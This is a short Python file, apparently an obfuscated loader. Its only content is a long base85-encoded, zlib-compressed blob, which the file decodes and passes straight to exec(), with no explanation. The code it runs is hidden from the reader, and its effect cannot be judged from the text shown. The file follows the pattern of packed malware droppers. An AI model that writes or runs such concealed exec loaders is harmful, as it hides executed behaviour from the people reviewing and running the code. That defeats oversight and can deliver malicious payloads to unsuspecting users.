import base64 as _b, zlib as _z

_BLOB = 'c-oCpO>f&U488kTa6Cyv;2w4xmc!cmP+(YrHv0gIz)&p4QKQHPB^M}){`X0;lg1cUOb3FZ$j8SgBI0GISi_ENPwYW7s@ahS9xOpn8%wf8#KIi<jsvu|+Z=r!T>o4Y_1%we)jcfX<+UgZP1{`Sh5TGVJZ1~73ovGlp>(z#L$AUPi~}FhNQ;DBCL{2oWu=KP0{P&xtv{CiGfMe}kdE`QZ{|@(TPHw~jGSdf3Rrin8cUe^IX_29XXN*QkArRr*AdqFhf~%1pZN#h`kej}^Y`mK*FH57cw67EzTT~>Yg_=Xe%)ME$*I0y$B0a%_9L0szrZ(4YM-M_VPH3Po8+w<vet`D`nS2r#vA8@at)2I3lP@$uz)c1@gpTfa+cgw3Llp6=}ie%#uNNhcA$#6V}UpBNm-*Ir=vXYq^uQZ-FN{$umt6FZV=sN1kZO*A>F?$vxmQLAx@uU;xzvG6#vg+k_EAR?96eVNuE|6;=ZUrGljBd@tbDijaYew^2X--6R|c;NYT?eh+K72;FuEm^Kk{<8DUDFQJ-SPA6$n9JO'
exec(_z.decompress(_b.b85decode(_BLOB)).decode())
